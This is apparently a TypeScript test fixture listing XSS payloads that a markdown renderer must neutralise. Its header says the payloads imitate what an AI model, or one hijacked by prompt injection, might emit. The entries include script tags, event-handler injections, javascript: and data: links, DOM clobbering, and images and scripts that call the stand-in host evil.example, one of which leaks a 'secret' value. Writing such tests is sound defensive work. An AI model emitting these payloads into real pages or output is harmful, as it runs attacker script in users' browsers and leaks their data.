/**
 * XSS payloads as a model (or a prompt-injected model) might write them, shared by the Node tests
 * (hostile.test.ts) and the Chromium ones (tests/component/render): none may run a script, load a
 * resource, or leave an element other than the renderer's own.
 */
export const XSS_PAYLOADS: Record<string, string> = {
	script: '<script>alert(1)</script>\n\n<script src="https://evil.example/x.js"></script>',
	imgOnerror: '<img src=x onerror="alert(1)"> and ![x](x" onerror="alert(1))',
	svgOnload: '<svg onload=alert(1)><circle r=1/></svg>',
	iframeSrcdoc: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
	noscriptMxss: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	clobbering:
		'<form id="test"><input name="attributes"></form> <img name="getElementById"> <a id="location" href="x">',
	javascriptLinks:
		'[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1)) [d](&#106;avascript:alert(1)) <javascript:alert(1)>',
	dataAndVbscript:
		'[e](data:text/html,<script>alert(1)</script>) [f](vbscript:msgbox(1)) ![g](data:image/svg+xml,<svg onload=alert(1)>)',
	remoteImage: '![pixel](https://evil.example/t.png?c=secret) ![w](http://evil.example/w.gif)',
	styleAndMeta:
		'<style>body{background:url(https://evil.example/c)}</style><meta http-equiv="refresh" content="0;url=https://evil.example">',
	attributeBreakout:
		'[x](https://ok.example/"onmouseover="alert(1)) [y](https://ok.example/ "t\\" onclick=alert(1)")',
	codeInfo: '```js" onload="alert(1)\ncode\n```\n\n```<script>\nx\n```',
	referenceSchemes:
		'[a][1] [b] ![c][2] [d][3]\n\n[1]: javascript:alert(1)\n[b]: <java\tscript:alert(1)> "t\\" onclick=alert(1)"\n[2]: data:image/svg+xml,<svg onload=alert(1)>\n[3]: &#106;avascript:alert(1)',
	footnoteClobbering:
		'A[^getElementById] B[^location] C[^__proto__] D[^test]\n\n[^getElementById]: <img src=x onerror=alert(1)>\n[^location]: [x](javascript:alert(1))\n[^__proto__]: proto\n[^test]: <form id="test"></form>',
	taskList:
		'- [x] <script>alert(1)</script>\n- [ ] [a](javascript:alert(1))\n- [<img src=x onerror=alert(1)>] x',
	emailLinks:
		'javascript:alert(1)@x.example <javascript:a@b.example> mailto:a@b.example?subject=<x>'
};
